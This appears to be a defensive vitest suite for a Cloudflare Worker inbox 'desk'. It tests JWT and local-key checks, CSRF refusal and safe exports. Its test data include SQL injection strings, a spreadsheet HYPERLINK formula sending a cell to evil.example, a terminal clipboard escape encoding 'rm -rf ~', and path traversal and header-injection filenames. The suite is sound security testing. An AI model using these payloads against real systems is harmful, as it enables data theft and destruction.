import { env as bindings } from 'cloudflare:workers';
import { exportJWK, exportSPKI, generateKeyPair, SignJWT, UnsecuredJWT } from 'jose';
import { beforeEach, expect, test, vi } from 'vitest';
import { readHistory } from '../../worker/desk/history.ts';
import type { Env } from '../../worker/env.ts';
import { faultyDatabase, interceptStatements } from './support/faulty.ts';
import { createHarness, harness, siteUrl } from './support/harness.ts';
import { simulateNetwork } from './support/network.ts';
import { contact, jsonPost, pdfFile, sendApplication, sendInquiry } from './support/posts.ts';
import { insertMessages, listFileKeys, readRows, updateTable } from './support/stores.ts';
import { advanceTime } from './support/time.ts';

const accessAudience = 'the-desk';
const ownerEmail = 'owner@tern-and-tide.test';
const overviewPath = '/api/v1/desk/overview';
const localUrl = 'http://localhost:8787';
const deskKey = 'a-random-key-of-this-start';
const localSettings: Partial<Env> = { DESK_KEY: deskKey };
const localHeaders = { 'CF-Connecting-IP': '127.0.0.1' };
const localKeyHeaders = { ...localHeaders, Cookie: `desk-key=${deskKey}` };
const keyHeadersFromElsewhere = { ...localKeyHeaders, 'CF-Connecting-IP': '203.0.113.9' };

async function createSigner() {
  const kid = crypto.randomUUID();
  const { privateKey, publicKey } = await generateKeyPair('RS256', { extractable: true });
  const jwk = { ...(await exportJWK(publicKey)), kid, alg: 'RS256', use: 'sig' };
  return { kid, jwk, privateKey, pem: await exportSPKI(publicKey) };
}

const [signer, otherSigner] = await Promise.all([createSigner(), createSigner()]);
let issuerUrl: string;
let accessSettings = { ACCESS_TEAM: 'a-team', ACCESS_AUD: accessAudience };
type Responder = () => Response | Promise<Response>;
const respondWithKey: Responder = () => Response.json({ keys: [signer.jwk] });
const respondToKeyFetch = vi.fn(respondWithKey);

/** Signs valid claims; `claimOverrides` replace some of them, or leave them out if undefined. */
function signToken(claimOverrides: Record<string, unknown> = {}, { kid, privateKey } = signer) {
  const claims = { ...createValidClaims(), ...claimOverrides };
  return new SignJWT(claims).setProtectedHeader({ alg: 'RS256', kid }).sign(privateKey);
}

beforeEach(() => {
  // The Worker caches a team's keys.
  accessSettings = { ...accessSettings, ACCESS_TEAM: crypto.randomUUID() };
  issuerUrl = `https://${accessSettings.ACCESS_TEAM}.cloudflareaccess.com`;
  respondToKeyFetch.mockReset();
  simulateNetwork({ [`${issuerUrl}/cdn-cgi/access/certs`]: respondToKeyFetch });
});

interface DeskRequest {
  token?: string;
  headers?: Record<string, string>;
  settings?: Partial<Env>;
  origin?: string;
  path?: string;
}

function requestDesk({ token, headers, ...settingsAndUrlParts }: DeskRequest) {
  const { settings = accessSettings, origin = siteUrl, path = overviewPath } = settingsAndUrlParts;
  const tokenHeaders = token === undefined ? {} : { 'Cf-Access-Jwt-Assertion': token };
  const requestInit = { redirect: 'manual', headers: { ...tokenHeaders, ...headers } } as const;
  const noAccess = { ACCESS_TEAM: '', ACCESS_AUD: '' };
  const deskHarness = createHarness({ ...noAccess, ...settings });
  return deskHarness.fetch(new Request(`${origin}${path}`, requestInit));
}

async function requestSignedIn(requestOptions: DeskRequest = {}): Promise<Response> {
  return requestDesk({ token: await signToken(), ...requestOptions });
}

async function readStatusForToken(tokenPromise: Promise<string>): Promise<number> {
  return (await requestDesk({ token: await tokenPromise })).status;
}

const ownOriginHeaders = { Origin: siteUrl };

/** Posts JSON with the Origin of the site, as the desk does, unless other headers are given. */
async function postChange(body: unknown, headers: Record<string, string> = ownOriginHeaders) {
  const signedInHeaders = { 'Cf-Access-Jwt-Assertion': await signToken(), ...headers };
  const post = jsonPost(body, signedInHeaders, '/api/v1/desk/changes');
  return createHarness(accessSettings).fetch(post);
}

function requestApi(path: string, settings: Partial<Env> = accessSettings): Promise<Response> {
  return requestSignedIn({ path: `/api/v1/desk${path}`, settings });
}

async function readApiJson<Answer>(apiPath: string): Promise<Answer> {
  const response = await requestApi(apiPath);
  expect(response.status).toBe(200);
  return response.json();
}

function storeMessage(fields: Record<string, string> = {}): Promise<string> {
  return sendInquiry(createHarness(), { ...contact, ...fields });
}

test('opens the desk for a user of Cloudflare Access, verifies the token of a page once, and fetches the certificates once', async () => {
  const verifySpy = vi.spyOn(crypto.subtle, 'verify');
  expect((await requestSignedIn({ path: '/desk' })).status).toBe(200);
  expect(verifySpy).toHaveBeenCalledOnce();
  for (const _request of [1, 2, 3]) {
    expect(await readApiJson('/overview')).toMatchObject({ actor: ownerEmail });
  }
  expect(respondToKeyFetch).toHaveBeenCalledOnce();
});

const readNowInSeconds = () => Math.floor(Date.now() / 1_000);

function createValidClaims() {
  const iat = readNowInSeconds();
  const validityClaims = { iat, nbf: iat, exp: iat + 3_600 };
  return { iss: issuerUrl, aud: [accessAudience], email: ownerEmail, ...validityClaims };
}

function signTokenWithSecret(secret: string): Promise<string> {
  return new SignJWT(createValidClaims())
    .setProtectedHeader({ alg: 'HS256', kid: signer.kid })
    .sign(new TextEncoder().encode(secret));
}

async function createChangedToken(): Promise<string> {
  const [tokenHeadPart, , tokenSignaturePart] = (await signToken()).split('.');
  const [, thiefClaimsPart] = (await signToken({ email: 'thief@example.com' })).split('.');
  return `${tokenHeadPart}.${thiefClaimsPart}.${tokenSignaturePart}`;
}

const otherIssuerClaim = { iss: 'https://evil.example/.cloudflareaccess.com' };
const otherHostSettings = { ACCESS_TEAM: 'evil.example/', ACCESS_AUD: accessAudience };

// biome-ignore format: a row a line
test.each<[caseName: string, createRequest: () => Promise<DeskRequest>, status?: number]>([
  ['that is missing', async () => ({})],
  ['that is empty', async () => ({ token: '' })],
  ['that is malformed', async () => ({ token: 'a.b.c' })],
  ['without a signature (alg: none)', async () => ({ token: new UnsecuredJWT(createValidClaims()).encode() })],
  ['signed by HS256 with the public key as the secret', async () => ({ token: await signTokenWithSecret(signer.pem) })],
  ['of another team', async () => ({ token: await signToken({ iss: 'https://evil.cloudflareaccess.com' }) })],
  ['for another application', async () => ({ token: await signToken({ aud: ['shop'] }) })],
  ['signed by another key', async () => ({ token: await signToken({}, otherSigner) })],
  ['changed after signing', async () => ({ token: await createChangedToken() })],
  ['that has expired', async () => ({ token: await signToken({ exp: readNowInSeconds() - 1 }) })],
  ['that never expires', async () => ({ token: await signToken({ exp: undefined }) })],
  ['that is not yet valid', async () => ({ token: await signToken({ nbf: readNowInSeconds() + 3_600 }) })],
  ['of a service without an email address', async () => ({ token: await signToken({ email: undefined }) })],
  ['with an empty email address', async () => ({ token: await signToken({ email: '' }) })],
  ['in a cookie only', async () => ({ headers: { Cookie: `CF_Authorization=${await signToken()}` } })],
  ['in the Authorization header only', async () => ({ headers: { Authorization: `Bearer ${await signToken()}` } })],
  ['where no team is set', async () => ({ token: await signToken(), settings: { ACCESS_AUD: accessAudience } }), 404],
  ['where no audience is set', async () => ({ token: await signToken(), settings: { ACCESS_TEAM: accessSettings.ACCESS_TEAM } }), 404],
  ['whose team setting contains another host', async () => ({ token: await signToken(otherIssuerClaim), settings: otherHostSettings }), 404],
])('refuses a token %s', async (_case, createRequest, expectedStatus = 401) => {
  const response = await requestDesk(await createRequest());
  expect(response.status).toBe(expectedStatus);
  expect(response.headers.get('Cache-Control')).toBe('no-store');
  expect(response.headers.get('Set-Cookie')).toBeNull();
  expect(await response.json()).toEqual({ message: expect.any(String) });
});

test.each<[caseName: string, respond: Responder]>([
  ['cannot be reached', () => Promise.reject(new TypeError('Network connection lost.'))],
  ['cannot be read (status 500)', () => Response.json({ keys: [signer.jwk] }, { status: 500 })],
  ['are malformed', () => Response.json({ keys: 'none' })],
  ['are HTML', () => new Response('<h1>Hello</h1>')],
])('refuses tokens while certificates %s, with a fetch per 30 s', async (_case, respond) => {
  respondToKeyFetch.mockImplementation(respond);
  for (const path of [overviewPath, '/desk']) {
    const { status, headers } = await requestSignedIn({ path });
    expect([status, headers.get('Retry-After')]).toEqual([503, '60']);
  }
  advanceTime(29_000);
  expect(await readStatusForToken(signToken())).toBe(503);
  expect(respondToKeyFetch).toHaveBeenCalledTimes(1);
  advanceTime(2_000);
  const parallelStatuses = await Promise.all([1, 2, 3].map(() => readStatusForToken(signToken())));
  expect(parallelStatuses).toEqual([503, 503, 503]);
  expect(respondToKeyFetch).toHaveBeenCalledTimes(2);
  advanceTime(31_000);
  respondToKeyFetch.mockImplementation(respondWithKey);
  expect(await readStatusForToken(signToken())).toBe(200);
});

test('refuses a withdrawn key and accepts its successor, also after certificates could not be fetched', async () => {
  expect(await readStatusForToken(signToken())).toBe(200);
  respondToKeyFetch.mockImplementation(() => Response.json({ keys: [otherSigner.jwk] }));
  // The keys are refetched at most twice a minute.
  advanceTime(31_000);
  expect(await readStatusForToken(signToken({}, otherSigner))).toBe(200);
  expect(await readStatusForToken(signToken())).toBe(401);
  respondToKeyFetch.mockImplementation(() => new Response('busy', { status: 500 }));
  advanceTime(31_000);
  expect(await readStatusForToken(signToken())).toBe(503);
  expect(await readStatusForToken(signToken({}, otherSigner))).toBe(200);
});

const accessAndKeySettings = { ...accessSettings, ...localSettings };
const emptyKeyHeaders = { ...localHeaders, Cookie: 'desk-key=' };

test('opens the desk on this machine with the local key, as an HttpOnly and SameSite=Strict cookie', async () => {
  const localOptions = { settings: localSettings, origin: localUrl, headers: localHeaders };
  const localSignInResponse = await requestDesk({ ...localOptions, path: `/desk?key=${deskKey}` });
  expect(localSignInResponse.status).toBe(303);
  expect(Object.fromEntries(localSignInResponse.headers)).toMatchObject({
    location: '/desk',
    'set-cookie': `desk-key=${deskKey}; Path=/; HttpOnly; SameSite=Strict`,
    'referrer-policy': 'no-referrer',
  });
  const deskResponse = await requestDesk({ ...localOptions, headers: localKeyHeaders });
  expect(await deskResponse.json()).toMatchObject({ actor: 'this computer' });
});

// biome-ignore format: a row a line
test.each<[caseName: string, status: number, attackRequest: DeskRequest]>([
  ['that is wrong', 401, { headers: { ...localHeaders, Cookie: 'desk-key=guessed' } }],
  ['that is empty', 401, { headers: emptyKeyHeaders }],
  ['in the address of an API', 401, { headers: localHeaders, path: `/api/v1/desk/overview?key=${deskKey}` }],
  ['that leaked in a referrer', 401, { headers: { ...localHeaders, Referer: `${localUrl}/desk?key=${deskKey}` } }],
  ['on another host', 404, { headers: localKeyHeaders, origin: siteUrl }],
  ['on a host that starts with localhost', 404, { headers: localKeyHeaders, origin: 'http://localhost.evil.example' }],
  ['on a host of the local network', 404, { headers: localKeyHeaders, origin: 'http://192.168.1.5:8787' }],
  ['from another machine', 404, { headers: keyHeadersFromElsewhere }],
  ['without a client address', 404, { headers: { Cookie: `desk-key=${deskKey}` } }],
  ['in a page’s address on another host', 404, { headers: keyHeadersFromElsewhere, origin: siteUrl, path: `/desk?key=${deskKey}` }],
  ['that is not set', 404, { headers: emptyKeyHeaders, settings: { DESK_KEY: '' } }],
  ['set on a deployed Worker', 401, { headers: keyHeadersFromElsewhere, origin: siteUrl, settings: accessAndKeySettings }],
  ['set on a deployed Worker, with a forged host', 401, { headers: keyHeadersFromElsewhere, settings: accessAndKeySettings }],
  ['set on a deployed Worker without Access', 404, { headers: keyHeadersFromElsewhere, origin: siteUrl }],
])('refuses the local key %s', async (_case, expectedStatus, attackRequest) => {
  const response = await requestDesk({ settings: localSettings, origin: localUrl, ...attackRequest });
  expect([response.status, response.headers.get('Set-Cookie')]).toEqual([expectedStatus, null]);
});

const deskPaths = [overviewPath, '/desk', '/desk/app.js'];
test.each(deskPaths)('answers %s like an unknown path where no desk is set up', async (path) => {
  const deskResponse = await requestDesk({ settings: {}, path });
  expect(deskResponse.status).toBe(404);
  const unknownPathResponse = await harness.get(path.replace(/desk.*/, 'nothing'));
  expect(await deskResponse.text()).toBe(await unknownPathResponse.text());
});

const unknownReference = 'TT-AAAA-AAAA';

// biome-ignore format: a row a line
test.each<[caseName: string, status: number, body: unknown, headers?: Record<string, string>]>([
  ['without an Origin', 403, null, {}],
  ['from another site', 403, null, { Origin: 'https://evil.example' }],
  ['from a sandbox', 403, null, { Origin: 'null', 'Sec-Fetch-Site': 'cross-site' }],
  ['from a subdomain', 403, null, { Origin: 'https://evil.tern-and-tide.test' }],
  ['as a form', 415, null, { ...ownOriginHeaders, 'Content-Type': 'application/x-www-form-urlencoded' }],
  ['as plain text, avoiding a preflight', 415, null, { ...ownOriginHeaders, 'Content-Type': 'text/plain' }],
  ['as JSONP', 415, null, { ...ownOriginHeaders, 'Content-Type': 'application/jsonp' }],
  ['of unknown kind', 422, { do: 'drop' }],
  ['named constructor', 422, { do: 'constructor', references: [] }],
  ['of an invalid reference', 422, { do: 'remove', references: ["' OR 1=1 --"] }],
  ['of everything', 422, { do: 'remove', references: '*' }],
  ['of no message', 422, { do: 'remove', references: [] }],
  ['of too many messages', 422, { do: 'read', references: Array(501).fill(unknownReference) }],
  ['with a pattern as address', 200, { do: 'erase', email: '%', typed: '%' }],
  ['that undoes a change nobody made', 200, { do: 'undo', references: [unknownReference], at: 1 }],
  ['that undoes at no time', 422, { do: 'undo', references: [unknownReference] }],
  ['with a reminder in the past', 422, { do: 'remind', references: [unknownReference], on: '2020-01-01' }],
  ['with a reminder on no day', 422, { do: 'remind', references: [unknownReference], on: 'soon' }],
  ['with a reminder on 31 February', 422, { do: 'remind', references: [unknownReference], on: '2999-02-31' }],
  ['with a block on 31 February', 422, { do: 'block', day: '2999-02-31', from: '09:00', until: '10:00' }],
  ['with a reminder without a message', 200, { do: 'remind', references: [unknownReference], on: '2999-01-01' }],
  ['that gives to nobody', 422, { do: 'give', references: [unknownReference], to: '' }],
  ['that restores an unknown note', 404, { do: 'restore-note', reference: unknownReference, id: 1 }],
  ['that is not confirmed', 422, { do: 'erase', email: 'ravi@example.com', typed: 'yes' }],
  ['of an empty address', 422, { do: 'erase', email: '', typed: '' }],
  ['with a note on an unknown message', 404, { do: 'note', reference: unknownReference, text: 'Hi' }],
  ['with too long a note', 422, { do: 'note', reference: unknownReference, text: 'x'.repeat(5_001) }],
  ['with too large a body', 413, `{"do":"note","text":"${'x'.repeat(110_000)}"}`],
  ['that is not JSON', 400, '{'],
])('changes nothing by a change %s', async (_case, expectedStatus, body, headers) => {
  const removal = { do: 'remove', references: [await storeMessage()] };
  const rowsBefore = await readRows();
  expect((await postChange(headers ? removal : body, headers)).status).toBe(expectedStatus);
  expect(await readRows()).toEqual(rowsBefore);
});

test('removes a note only with its own message, and no other event', async () => {
  const notedReference = await storeMessage();
  const otherReference = await storeMessage({ message: 'Another' });
  await postChange({ do: 'note', reference: notedReference, text: 'Hi' });
  await postChange({ do: 'answer', references: [notedReference] });
  const [, note, answer] = await readHistory(bindings, notedReference);
  const changeNote = (changeName: string, reference: string, event = note) =>
    postChange({ do: changeName, reference, id: event?.id });
  expect((await changeNote('remove-note', notedReference, answer)).status).toBe(404);
  for (const changeName of ['remove-note', 'restore-note', 'remove-note']) {
    expect((await changeNote(changeName, otherReference)).status).toBe(404);
    const response = await changeNote(changeName, notedReference);
    expect(await response.json()).toEqual({ changed: [notedReference] });
    expect((await changeNote(changeName, notedReference)).status).toBe(404);
  }
});

const lookalikeReferences = [unknownReference, "TT-' OR 1=1", `../${unknownReference}`];
const notFoundReferences = [...lookalikeReferences, '%2e%2e', 'x'.repeat(3_000)];
test.each(notFoundReferences)('answers 404 for the reference %s', async (reference) => {
  const messagePath = `/messages/${encodeURIComponent(reference)}`;
  await storeMessage();
  expect((await requestApi(messagePath)).status).toBe(404);
  expect((await requestApi(`${messagePath}/file`)).status).toBe(404);
});

// biome-ignore format: values side by side
const searchTexts = [
  "' OR 1=1 --", '"; DROP TABLE messages; --', '"', 'as"ha', '""', '*', 'NEAR(a b, 5)',
  'ravi OR asha', 'words : ravi', '{words} : ravi', '^ravi NOT asha', 'ravi" OR "asha',
  '-asha', '\0ravi', '%_%', '🙂'.repeat(500), 'asha '.repeat(3_000),
];
test.each(searchTexts)('searches %j as words, not as query syntax', async (searchWords) => {
  await storeMessage({ name: 'Asha' });
  await storeMessage({ name: 'Meera', email: 'meera@example.com', message: 'Good morning' });
  const foundMessages = await readApiJson(`/messages?words=${encodeURIComponent(searchWords)}`);
  expect(JSON.stringify(foundMessages)).not.toContain('Meera');
  expect(await readRows()).toHaveLength(2);
});

const badFilters = 'state=all state=held%27 form=letter pages=0 pages=-1 pages=1e3 pages=x'.split(
  ' ',
);
test.each(badFilters)('refuses the filter %s', async (filterQuery) => {
  expect((await requestApi(`/messages?${filterQuery}`)).status).toBe(422);
});

test('shows a message with the latest twenty other messages of the same person', async () => {
  await insertMessages(23);
  await storeMessage();
  const newestFirstReferences = Array.from({ length: 23 }, (_, index) => String(23 - index));
  for (const openedReference of ['23', '1']) {
    const unopenedReferences = newestFirstReferences.filter((other) => other !== openedReference);
    const earlier = unopenedReferences.slice(0, 20).map((reference) => ({ reference }));
    expect(await readApiJson(`/messages/${openedReference}`)).toMatchObject({ earlier });
  }
});

test.each([
  ['without a CV', null],
  ['whose CV is gone', pdfFile()],
])('answers 404 for the file of an application %s', async (_case, cv) => {
  const reference = await sendApplication(createHarness(), cv);
  await bindings.FILES.delete(await listFileKeys());
  const response = await requestApi(`/messages/${reference}/files/0`);
  expect([response.status, await response.json()]).toEqual([404, { message: expect.any(String) }]);
});

test('answers 500 while the database fails, and still reads and searches when nothing can be written', async () => {
  await storeMessage({ name: 'Asha' });
  const brokenSettings = { ...accessSettings, DB: faultyDatabase(bindings.DB) };
  expect((await requestApi('/overview', brokenSettings)).status).toBe(500);
  const isWrite = (sql: string) => /INSERT|UPDATE|DELETE/.test(sql);
  const readOnlySettings = { ...accessSettings, DB: faultyDatabase(bindings.DB, isWrite) };
  for (const path of ['/messages?words=asha', '/overview', '/numbers', '/export/json']) {
    const response = await requestApi(path, readOnlySettings);
    expect([response.status, await response.text()]).toEqual([200, expect.anything()]);
  }
});

test('exports 13,500 messages whole and valid in fifty calls, and breaks off when a call fails', async () => {
  const reference = `'TT-' || printf('%05d', n)`;
  await insertMessages(13_500, { reference });
  await bindings.DB.exec(`UPDATE deliveries SET status = 'waiting'`);
  await bindings.DB.exec(`UPDATE deliveries SET status = 'delivered'`);
  await bindings.DB.exec(`DELETE FROM messages WHERE reference = 'TT-00007'`);
  const longFieldsSql = `json_object('message', hex(zeroblob(250000)))`;
  await updateTable('messages', `fields = ${longFieldsSql} WHERE id % 500 = 0`);
  const resultLengths: number[] = [];
  const countingDatabase = interceptStatements(bindings.DB, async (performCall) => {
    const results = await performCall();
    resultLengths.push(JSON.stringify(results).length);
    return results;
  });
  const settings = { ...accessSettings, DB: countingDatabase };
  const numbers = [...Array(13_501).keys()].filter((number) => number !== 0 && number !== 7);
  const references = numbers.map((number) => `TT-${String(number).padStart(5, '0')}`);
  type Exported = { reference: string; history: object[] }[];
  const exported: Exported = await (await requestApi('/export/json', settings)).json();
  expect(exported.map((message) => message.reference)).toEqual(references);
  expect(exported.every(({ history }) => history.length === 1)).toBe(true);
  expect(resultLengths.length).toBeLessThanOrEqual(50);
  expect(Math.max(...resultLengths), 'in the memory of a Worker').toBeLessThan(10e6);
  const csvLines = (await (await requestApi('/export/csv', settings)).text()).split('\r\n');
  expect(csvLines[0]).toMatch(/^\uFEFF?"reference","form",.*"coverLetter"$/);
  expect(csvLines.slice(1, -1).map((line) => line.slice(1, 9))).toEqual(references);
  let pageCount = 0;
  const isSecondPage = (sql: string) => sql.includes('AS page_length') && ++pageCount > 1;
  const brokenSettings = { ...settings, DB: faultyDatabase(bindings.DB, isSecondPage) };
  const brokenResponse = await requestApi('/export/csv', brokenSettings);
  expect(brokenResponse.status).toBe(200);
  await expect(brokenResponse.text()).rejects.toThrow('Network connection lost');
});

test.each([
  ['/messages', 50, true],
  ['/messages?pages=1', 50, true],
  ['/messages?pages=2', 100, true],
  ['/messages?pages=3', 101, false],
])(
  'lists fifty messages per page, and says whether there are older ones: %s',
  async (path, count, hasOlder) => {
    await insertMessages(101);
    type Page = { messages: { reference: string }[]; hasOlder: boolean };
    const page: Page = await readApiJson(path);
    const newestFirst = Array.from({ length: count }, (_, index) => String(101 - index));
    expect(page.messages.map(({ reference }) => reference)).toEqual(newestFirst);
    expect(page.hasOlder).toBe(hasOlder);
  },
);

test('finds a person regardless of the address’s case', async () => {
  await storeMessage({ email: 'Asha@Example.com' });
  expect(await readApiJson('/person?email=aSHA%40example.COM')).toMatchObject({ messages: 1 });
  expect(await readApiJson('/messages?email=ASHA%40EXAMPLE.COM')).toMatchObject({ messages: [{}] });
  expect((await requestApi('/person')).status).toBe(422);
});

test('lets only the owner’s browser cache the desk’s files, and nobody its pages and data', async () => {
  const reference = await storeMessage();
  const settings = { ...accessSettings, ASSETS: { fetch: async () => new Response('built') } };
  // biome-ignore format: addresses side by side
  const apiPaths = [
    'overview', 'messages', `messages/${reference}`, `messages/${reference}/file`, 'numbers',
    'person?email=ravi@example.com', 'export/csv', 'export/json',
  ].map((apiPath) => `/api/v1/desk/${apiPath}`);
  for (const path of ['/desk', '/desk/manifest.webmanifest', ...apiPaths]) {
    const { headers } = await requestSignedIn({ path, settings });
    expect(headers.get('Cache-Control'), path).toBe('no-store');
  }
  const changeResponse = await postChange({ do: 'read', references: [reference] });
  expect(changeResponse.headers.get('Cache-Control')).toBe('no-store');
  const scriptResponse = await requestSignedIn({ path: '/desk/app-ABCDEFGH.js', settings });
  expect(scriptResponse.headers.get('Cache-Control')).toBe('private, max-age=31536000, immutable');
});

test.each([
  ['', []],
  [`whsec_${btoa('A key of at least 24 bytes.')}`, []],
  ['whsec_', ['webhook-secret']],
  ['A word of the owner’s', ['webhook-secret']],
])('reports in Health whether MESSAGE_WEBHOOK_SECRET is a key: "%s"', async (secret, troubles) => {
  const settings = { ...accessSettings, MESSAGE_WEBHOOK_SECRET: secret };
  const overview = await (await requestSignedIn({ settings })).json();
  expect(overview).toMatchObject({ troubles, actor: ownerEmail, open: 0 });
});

test('exports filtered messages as a download named by the day', async () => {
  expect(await readApiJson('/export/json'), 'without messages').toEqual([]);
  await storeMessage();
  await storeMessage({ name: 'Asha' });
  const response = await requestApi('/export/json?words=asha');
  const dispositionPattern = /^attachment; filename\*=UTF-8''inquiries-\d{4}-\d\d-\d\d\.json$/;
  expect(response.headers.get('Content-Disposition')).toMatch(dispositionPattern);
  expect(await response.json()).toMatchObject([{ fields: { name: 'Asha' } }]);
});

// biome-ignore format: formulas, then control characters
const hostileTexts = [
  '=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\r\n=1+1', '＝1', '|calc', '%x', '\u200b=1',
  '=HYPERLINK("https://evil.example?x="&A1,"open")', 'x","=1+1', 'x"\r\n"=1+1', 'a, b',
  '\u001b[2J\u001b[H', '\u001b]0;owned\u0007', '\u001b]52;c;cm0gLXJmIH4=\u0007',
  '\u001b]8;;https://evil.example\u001b\\bank.example\u001b]8;;\u001b\\',
  '\u009b31mred\u009d0;x\u009c', 'safe\rCC-AAAA-AAAA  delivered', 'unpaid\b\b\b\b\b\bpaid',
  'invoice\u202Efdp.exe\u2066x\u2069', 'Asha\u2028Status: delivered\u0085x',
];

test.each(hostileTexts)('exports %j as harmless text in CSV and JSON', async (hostileText) => {
  await storeMessage({ website: 'spam' });
  // This bypasses the Worker's cleaning of input.
  const statements = [
    `UPDATE messages SET email = ?1, page = ?1, service = ?1, spam_reason = ?1,
     fields = json_object('name', ?1, 'email', ?1, 'phoneNumber', ?1, 'message', ?1)`,
    `INSERT INTO files SELECT id, 0, 'key', ?1, 'text/plain', 1 FROM messages`,
    `INSERT INTO deliveries (message, recipient, waiting_since, due_at, last_error)
     SELECT id, 'owner', 1, 9e15, ?1 FROM messages`,
  ];
  await bindings.DB.batch(statements.map((sql) => bindings.DB.prepare(sql).bind(hostileText)));
  const csvText = await (await requestApi('/export/csv')).text();
  const csvCellMatches = [...csvText.matchAll(/"((?:[^"]|"")*)"/g)];
  const cellTexts = csvCellMatches.map(([, cell = '']) => cell.replaceAll('""', '"'));
  expect(cellTexts).toHaveLength(2 * (cellTexts.indexOf('coverLetter') + 1));
  expect(cellTexts.filter((cell) => cell.replace(/^'/, '') === hostileText)).toHaveLength(9);
  expect(cellTexts.filter((cell) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝|%]/u.test(cell))).toEqual([]);

  const exportedJson = await (await requestApi('/export/json')).text();
  const expectedMessage = { fields: { name: hostileText }, files: [hostileText] };
  expect(JSON.parse(exportedJson)).toMatchObject([expectedMessage]);
  expect(exportedJson).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\u2028\u2029]/u);
});

test.each([
  ['../../etc/passwd\0.pdf', 'passwd.pdf'],
  ['..\\..\\run.bat', 'run.txt'],
  ['C:/x\u001b[2J|y.exe', 'x_2J_y.txt'],
  ['\u202Efdp.exe', 'fdp.txt'],
  ['C:\\Windows\\cv"; filename="evil.exe', 'cv_ filename_evil.txt'],
  ['a\r\nSet-Cookie: x=1.pdf', 'a Set-Cookie_ x_1.pdf'],
  ['<script>.html', 'script.txt'],
])('offers a CV stored as %j under a safe name', async (storedFileName, safeFileName) => {
  const reference = await sendApplication(createHarness());
  await updateTable('files', 'name = ?', storedFileName);
  const fileResponse = await requestApi(`/messages/${reference}/files/0`);
  expect(Object.fromEntries(fileResponse.headers)).toMatchObject({
    'content-disposition': `attachment; filename*=UTF-8''${encodeURIComponent(safeFileName)}`,
    'content-type': 'application/octet-stream',
  });
  expect(await fileResponse.text()).toContain('%PDF');
});
